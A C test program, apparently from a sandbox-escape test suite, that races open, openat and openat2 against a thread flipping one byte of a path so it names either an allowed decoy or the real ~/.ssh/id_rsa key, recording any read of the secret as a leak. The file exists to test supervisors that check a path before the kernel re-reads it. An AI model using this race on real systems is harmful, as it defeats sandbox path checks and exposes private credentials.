/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Attack 1: path race on open. A second thread flips one byte of the path
 * buffer, so that it names either the decoy (~/work/.a/.ssh/id_rsa, allowed)
 * or the secret (~/work/../.ssh/id_rsa), while the main thread calls
 * open, openat and openat2 on it in a loop. A supervisor that checks the
 * path and then lets the kernel re-read it would open the secret; one that
 * works on its own copy never does.
 */
#include <linux/openat2.h>
#include <pthread.h>

#include "escape-common.h"

int main(void)
{
	static char path[PATH_MAX];
	struct esc_flip f = { 0 };
	pthread_t t;
	unsigned long tries = 0, decoys = 0, errors = 0;
	size_t at;
	double end;

	esc_init("race-open", "flip the path between the decoy and the secret during open/openat/openat2");
	at = esc_diff_at(esc_decoy, esc_secret_alt);
	snprintf(path, sizeof(path), "%s", esc_decoy);
	f.at = &path[at];
	f.a = esc_decoy[at];
	f.b = esc_secret_alt[at];
	esc_say("racing '%s' <-> '%s' for %.1fs", esc_decoy, esc_secret_alt,
		esc_seconds);
	if (pthread_create(&t, NULL, esc_flipper, &f))
		esc_setup_error("pthread_create failed");
	end = esc_now() + esc_seconds;
	while (esc_now() < end && !esc_escaped) {
		char buf[512];
		ssize_t n;
		int fd;

		switch (tries++ % 3) {
		case 0:
			fd = (int)syscall(SYS_open, path, O_RDONLY | O_CLOEXEC);
			break;
		case 1:
			fd = openat(AT_FDCWD, path, O_RDONLY | O_CLOEXEC);
			break;
		default: {
			struct open_how how = { .flags = O_RDONLY | O_CLOEXEC };

			fd = (int)syscall(SYS_openat2, AT_FDCWD, path, &how,
					  sizeof(how));
			break;
		}
		}
		if (fd < 0) {
			errors++;
			continue;
		}
		n = esc_read_fd(fd, buf, sizeof(buf));
		close(fd);
		if (esc_is_stolen(buf, n))
			esc_leak("open race", buf, n);
		else if (n > 0)
			decoys++;
	}
	atomic_store(&f.stop, 1);
	pthread_join(t, NULL);
	esc_say("%lu opens, %lu read the decoy, %lu refused, %lu flips", tries,
		decoys, errors, f.flips);
	if (decoys)
		esc_control("%lu racing opens of the decoy were served", decoys);
	return esc_finish();
}
